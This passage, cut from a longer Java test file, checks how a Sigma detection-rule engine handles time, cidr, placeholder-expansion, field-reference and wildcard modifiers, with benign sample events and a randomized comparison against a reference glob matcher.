        assertThat(night.matches(ev("T", "2024-03-05T23:15:00Z"))).isTrue();
        assertThat(night.matches(ev("T", "2024-03-05T05:59:59Z"))).isTrue();
        assertThat(night.matches(ev("T", "2024-03-05T06:00:00Z"))).isFalse();
        assertThat(night.matches(ev("T", "2024-03-05T21:59:59Z"))).isFalse();
        assertThat(field("T|month|lte", "6").matches(ev("T", "2024-06-30T10:00:00Z"))).isTrue();
        assertThat(field("T|month|lte", "6").matches(ev("T", "2024-07-01T10:00:00Z"))).isFalse();
    }

    @Test
    void timeModifiersDoNotConvertZones() {
        // "**Warning**: It is not designed to handle timezone or format conversions." The number is read as the date is written.
        assertThat(field("T|hour", "23").matches(ev("T", "2024-03-05T23:30:00+02:00"))).isTrue();
        assertThat(field("T|hour", "21").matches(ev("T", "2024-03-05T23:30:00+02:00"))).as("not converted to UTC").isFalse();
        assertThat(field("T|day", "31").matches(ev("T", "2024-12-31T23:30:00-05:00"))).isTrue();
        assertThat(field("T|year", "2025").matches(ev("T", "2024-12-31T23:30:00-05:00"))).isFalse();
        // the ISO forms events carry: fractions of a second (Windows' SystemTime), no zone, a space for the T
        assertThat(field("T|minute", "20").matches(ev("T", "2024-03-05T10:20:30.1234567Z"))).isTrue();
        assertThat(field("T|minute", "20").matches(ev("T", "2024-03-05T10:20:30"))).isTrue();
        assertThat(field("T|minute", "20").matches(ev("T", "2024-03-05 10:20:30"))).isTrue();
        assertThat(field("T|minute", "21").matches(ev("T", "2024-03-05 10:20:30"))).isFalse();
    }

    @Test
    void timeModifiersOnADateWithoutTime() {
        // "it extracts a numeric value from a date": an ISO date (2024-03-05) is a date value, and has a day, week, month and
        // year. Decision: it has no hour or minute (not midnight), so those match nothing.
        String d = "2024-03-05";
        assertThat(field("T|day", "5").matches(ev("T", d))).isTrue();
        assertThat(field("T|day", "6").matches(ev("T", d))).isFalse();
        assertThat(field("T|week", "10").matches(ev("T", d))).isTrue();
        assertThat(field("T|month", "3").matches(ev("T", d))).isTrue();
        assertThat(field("T|year", "2024").matches(ev("T", d))).isTrue();
        assertThat(field("T|year", "2023").matches(ev("T", d))).isFalse();
        assertThat(field("T|hour", "0").matches(ev("T", d))).isFalse();
        assertThat(field("T|minute", "0").matches(ev("T", d))).isFalse();
    }

    // ------------------------------------------------------------------------- cidr

    @Test
    void cidrIPv4() {
        // "`cidr`: The value is handled as a CIDR network range specification by backends. Supports both IPv4 and IPv6
        //  notations. Example: `DestinationIp|cidr: 10.0.0.0/8`"
        Compiled r = field("DestinationIp|cidr", "10.0.0.0/8");
        assertThat(r.matches(ev("DestinationIp", "10.1.2.3"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "10.255.255.255"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "11.0.0.1"))).isFalse();
        assertThat(r.matches(ev("DestinationIp", "9.255.255.255"))).isFalse();
        assertThat(r.matches(ev("DestinationIp", "not-an-ip"))).isFalse();
        assertThat(r.matches(ev("DestinationIp", "2001:db8::1"))).isFalse();
        assertThat(r.matches(ev("SourceIp", "10.1.2.3"))).isFalse();
        // a prefix that is not a whole number of bytes
        Compiled p23 = field("DestinationIp|cidr", "192.168.0.0/23");
        assertThat(p23.matches(ev("DestinationIp", "192.168.1.255"))).isTrue();
        assertThat(p23.matches(ev("DestinationIp", "192.168.2.0"))).isFalse();
        // a list is OR; an address alone is its own /32
        Compiled list = field("DestinationIp|cidr", "127.0.0.0/8", "169.254.0.0/16", "192.0.2.7");
        assertThat(list.matches(ev("DestinationIp", "169.254.10.1"))).isTrue();
        assertThat(list.matches(ev("DestinationIp", "192.0.2.7"))).isTrue();
        assertThat(list.matches(ev("DestinationIp", "192.0.2.8"))).isFalse();
    }

    @Test
    void cidrIPv6() {
        // "Supports both IPv4 and IPv6 notations."
        Compiled r = field("DestinationIp|cidr", "2001:db8::/32");
        assertThat(r.matches(ev("DestinationIp", "2001:db8::1"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "2001:DB8:ffff:1::5"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "2001:db9::1"))).isFalse();
        assertThat(r.matches(ev("DestinationIp", "10.0.0.1"))).isFalse();
        Compiled linkLocal = field("DestinationIp|cidr", "fe80::/10");
        assertThat(linkLocal.matches(ev("DestinationIp", "febf::1"))).isTrue();
        assertThat(linkLocal.matches(ev("DestinationIp", "fec0::1"))).isFalse();
        Compiled loopback = field("DestinationIp|cidr", "::1/128");
        assertThat(loopback.matches(ev("DestinationIp", "0:0:0:0:0:0:0:1"))).isTrue();
        assertThat(loopback.matches(ev("DestinationIp", "::2"))).isFalse();
    }

    @Test
    void cidrRefusesWhatIsNotANetwork() {
        for (String bad : List.of("10.0.0.0/33", "10.0.0/8", "2001:db8::/129", "10.0.0.0/x", "example.com/8")) {
            RuleError e = error(body("DestinationIp|cidr", bad));
            assertThat(e.message()).as(bad).startsWith("cidr:");
            assertThat(e.line()).isEqualTo(RuleFixture.HEADER + 2);
        }
    }

    // ------------------------------------------------------------------------- expand, placeholders

    @Test
    void expandReplacesPlaceholdersWithTheGivenValues() {
        // "`expand`: Modifier for expansion of placeholders in values." / "Replacement of placeholders with a single, multiple
        //  or-linked values or patterns. Example: the placeholder `%Servers%` is replaced with the pattern `srv*`"
        Map<String, List<String>> ph = Map.of("Administrators", List.of("admin", "root"), "Servers", List.of("srv*"));
        Compiled admins = field(ph, "User|expand", "%Administrators%");
        assertThat(admins.matches(ev("User", "admin"))).isTrue();
        assertThat(admins.matches(ev("User", "ROOT"))).isTrue();
        assertThat(admins.matches(ev("User", "guest"))).isFalse();
        assertThat(admins.matches(ev("User", "%Administrators%"))).isFalse();
        Compiled servers = field(ph, "Computer|expand", "%Servers%");
        assertThat(servers.matches(ev("Computer", "SRV01.corp"))).isTrue();
        assertThat(servers.matches(ev("Computer", "ws01.corp"))).isFalse();
        // a placeholder inside a longer value, with a compare modifier. Ambiguous: "\%" is a plain percent, so a backslash
        // right before a placeholder must itself be escaped, as before a wildcard ("as well as the backslash character
        // itself"): \\Users\\%Administrators%\\ is \Users\ then the placeholder then \.
        Compiled path = field(ph, "Path|contains|expand", "\\\\Users\\\\%Administrators%\\\\");
        assertThat(path.matches(ev("Path", "C:\\Users\\root\\AppData"))).isTrue();
        assertThat(path.matches(ev("Path", "C:\\Users\\guest\\AppData"))).isFalse();
        assertThat(path.matches(ev("Path", "C:\\Users\\%Administrators%\\AppData"))).isFalse();
        // with one backslash the percent is escaped: no placeholder, the text %Administrators% (and no error)
        Compiled plain = field(ph, "Path|contains|expand", "\\Users\\%Administrators%");
        assertThat(plain.matches(ev("Path", "C:\\Users%Administrators%"))).isTrue();
        assertThat(plain.matches(ev("Path", "C:\\Users\\root"))).isFalse();
    }

    @Test
    void placeholdersNeedExpand() {
        // "From Sigma 1.1 placeholders are only handled if the *expand* modifier is applied to the value containing the
        //  placeholder." / "`field: %name%` handles `%name%` as literal value."
        Map<String, List<String>> ph = Map.of("name", List.of("value"));
        Compiled literal = field(ph, "F", "%name%");
        assertThat(literal.matches(f("%name%"))).isTrue();
        assertThat(literal.matches(f("value"))).isFalse();
        // "`field|expand: %name%` handles `%name%` as placeholder."
        Compiled expanded = field(ph, "F|expand", "%name%");
        assertThat(expanded.matches(f("value"))).isTrue();
        assertThat(expanded.matches(f("%name%"))).isFalse();
    }

    @Test
    void escapedPercentIsPlain() {
        // "A plain percent character can be used by escaping it with a backslash." /
        // "`field|expand: \%plain%name%` handles `%plain` as plain value and `%name%` as placeholder."
        Compiled r = field(Map.of("name", List.of("X", "Y")), "F|expand", "\\%plain%name%");
        assertThat(r.matches(f("%plainX"))).isTrue();
        assertThat(r.matches(f("%plainY"))).isTrue();
        assertThat(r.matches(f("%plain%name%"))).isFalse();
        assertThat(r.matches(f("plainX"))).isFalse();
    }

    @Test
    void expandWithoutValuesRejectsTheRule() {
        // "Placeholders must be handled appropriately by a tool that uses Sigma rules. If the tool isn't able to handle
        //  placeholders, it must reject the rule."
        String body = """
                selection:
                    EventID: 4624
                    User|expand: '%Administrators%'
                condition: selection
                """;
        RuleError e = error(body, Map.of());
        assertThat(e.line()).isEqualTo(RuleFixture.HEADER + 3);
        assertThat(e.message()).contains("%Administrators%");
        assertThat(error(body, Map.of("Administrators", List.of())).message()).as("an empty list is no value").contains("%Administrators%");
        assertThat(error(body, Map.of("Servers", List.of("srv*"))).message()).as("another placeholder's values").contains("%Administrators%");
    }

    // ------------------------------------------------------------------------- fieldref

    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
        // "`fieldref`: Modifies a plain string into a field reference. A field reference can be used to compare fields of
        //  matched events directly at query/matching time."
        Compiled r = field("Image|fieldref", "ParentImage");
        assertThat(r.matches(ev("Image", "C:\\x\\a.exe", "ParentImage", "C:\\X\\A.EXE"))).as("case-insensitive by default").isTrue();
        assertThat(r.matches(ev("Image", "C:\\x\\a.exe", "ParentImage", "C:\\x\\b.exe"))).isFalse();
        assertThat(r.matches(ev("Image", "C:\\x\\a.exe"))).as("the referred field is absent").isFalse();
        assertThat(r.matches(ev("Image", "ParentImage"))).as("the value is a field name, not text").isFalse();
        Compiled cased = field("Image|fieldref|cased", "ParentImage");
        assertThat(cased.matches(ev("Image", "a.exe", "ParentImage", "a.exe"))).isTrue();
        assertThat(cased.matches(ev("Image", "a.exe", "ParentImage", "A.exe"))).isFalse();
    }

    @Test
    void fieldrefWithStringComparisons() {
        // fieldref with startswith / endswith / contains: the field starts with, ends with, contains the other field's value
        Compiled cont = field("CommandLine|fieldref|contains", "TargetFilename");
        assertThat(cont.matches(ev("CommandLine", "copy x C:\\Temp\\a.dll", "TargetFilename", "c:\\temp\\A.dll"))).isTrue();
        assertThat(cont.matches(ev("CommandLine", "copy x C:\\Temp\\b.dll", "TargetFilename", "C:\\Temp\\a.dll"))).isFalse();
        Compiled starts = field("CommandLine|fieldref|startswith", "Image");
        assertThat(starts.matches(ev("CommandLine", "C:\\a.exe -x", "Image", "C:\\a.exe"))).isTrue();
        assertThat(starts.matches(ev("CommandLine", "\"C:\\a.exe\" -x", "Image", "C:\\a.exe"))).isFalse();
        Compiled ends = field("TargetFilename|fieldref|endswith", "OriginalFileName");
        assertThat(ends.matches(ev("TargetFilename", "C:\\Temp\\evil.exe", "OriginalFileName", "EVIL.EXE"))).isTrue();
        assertThat(ends.matches(ev("TargetFilename", "C:\\Temp\\evil.exe", "OriginalFileName", "evil.dll"))).isFalse();
    }

    @Test
    void fieldrefWithNeq() {
        // "Can be conbine with the `neq` modifier."
        Compiled r = field("SubjectUserName|fieldref|neq", "TargetUserName");
        assertThat(r.matches(ev("SubjectUserName", "alice", "TargetUserName", "bob"))).isTrue();
        assertThat(r.matches(ev("SubjectUserName", "alice", "TargetUserName", "ALICE"))).isFalse();
    }

    @Test
    void fieldrefWithANumericComparisonIsRefused() {
        // Ambiguous: the appendix names only neq as a companion of fieldref; comparing two fields as numbers is not defined,
        // so Vigil refuses the rule (with its line) rather than guess.
        RuleError e = error(body("Count|fieldref|gt", "Limit"));
        assertThat(e.line()).isEqualTo(RuleFixture.HEADER + 2);
        assertThat(e.message()).contains("fieldref");
    }

    // ------------------------------------------------------------------------- randomized: wildcards against a reference glob

    /** The reference: {@code *} any run, {@code ?} one character, anything else itself, case-insensitive unless cased. */
    private static boolean glob(String p, String s, boolean cased) {
        // match[i][j]: p[i..] matches s[j..]
        boolean[][] m = new boolean[p.length() + 1][s.length() + 1];
        m[p.length()][s.length()] = true;
        for (int i = p.length() - 1; i >= 0; i--) {
            char pc = p.charAt(i);
            for (int j = s.length(); j >= 0; j--) {
                if (pc == '*') {
                    m[i][j] = m[i + 1][j] || (j < s.length() && m[i][j + 1]);
                } else if (j < s.length()) {
                    char sc = s.charAt(j);
                    boolean same = pc == '?' || pc == sc || (!cased && Character.toLowerCase(pc) == Character.toLowerCase(sc));
                    m[i][j] = same && m[i + 1][j + 1];
                }
            }
        }
        return m[0][0];
    }

    @Test
    void wildcardsAgreeWithAReferenceGlob() {
        // "`?` to replace a single mandatory character." / "`*` to replace an unbounded length wildcard." / "All values are
        // treated as case-insensitive strings." / contains, startswith, endswith put * around, after, before the value.
        Random rnd = new Random(20240305L);
        String literals = "abAB.-é É'";
        String subjectChars = "abAB.-é É'*?\n";
        int matched = 0;
        int cases = 3000;
        for (int n = 0; n < cases; n++) {
            StringBuilder p = new StringBuilder();
            int plen = rnd.nextInt(8);
            for (int i = 0; i < plen; i++) {
                int k = rnd.nextInt(10);
                p.append(k < 2 ? '*' : k < 3 ? '?' : literals.charAt(rnd.nextInt(literals.length())));
            }
            String pattern = p.toString();
            String subject;
            if (rnd.nextBoolean()) {
                // from the pattern: wildcards filled in, letters flipped in case, sometimes one change
                StringBuilder s = new StringBuilder();
                for (char c : pattern.toCharArray()) {
                    if (c == '*') {
                        int len = rnd.nextInt(3);
                        for (int i = 0; i < len; i++) s.append(subjectChars.charAt(rnd.nextInt(subjectChars.length())));
                    } else if (c == '?') {
                        s.append(subjectChars.charAt(rnd.nextInt(subjectChars.length())));
                    } else {
                        s.append(rnd.nextBoolean() ? Character.toUpperCase(c) : Character.toLowerCase(c));
                    }
                }
                if (rnd.nextInt(4) == 0 && !s.isEmpty()) s.setCharAt(rnd.nextInt(s.length()), subjectChars.charAt(rnd.nextInt(subjectChars.length())));
                if (rnd.nextInt(4) == 0) s.insert(rnd.nextBoolean() ? 0 : s.length(), subjectChars.charAt(rnd.nextInt(subjectChars.length())));
                subject = s.toString();
            } else {
                StringBuilder s = new StringBuilder();
                int slen = rnd.nextInt(10);
                for (int i = 0; i < slen; i++) s.append(subjectChars.charAt(rnd.nextInt(subjectChars.length())));
                subject = s.toString();
            }
            String[] shapes = {"", "|contains", "|startswith", "|endswith"};
            int shape = rnd.nextInt(4);
            boolean cased = rnd.nextInt(4) == 0;
            String ref = switch (shape) {
                case 1 -> "*" + pattern + "*";
                case 2 -> pattern + "*";
                case 3 -> "*" + pattern;
                default -> pattern;
            };
            boolean expected = glob(ref, subject, cased);
            Compiled r = field("F" + shapes[shape] + (cased ? "|cased" : ""), pattern);
            assertThat(r.matches(f(subject))).as("F%s%s: '%s' against '%s'", shapes[shape], cased ? "|cased" : "", pattern,
                    subject.replace("\n", "\\n")).isEqualTo(expected);
            if (expected) matched++;
        }
        // both outcomes well represented
        assertThat(matched).isBetween(cases / 5, cases * 4 / 5);
    }
}
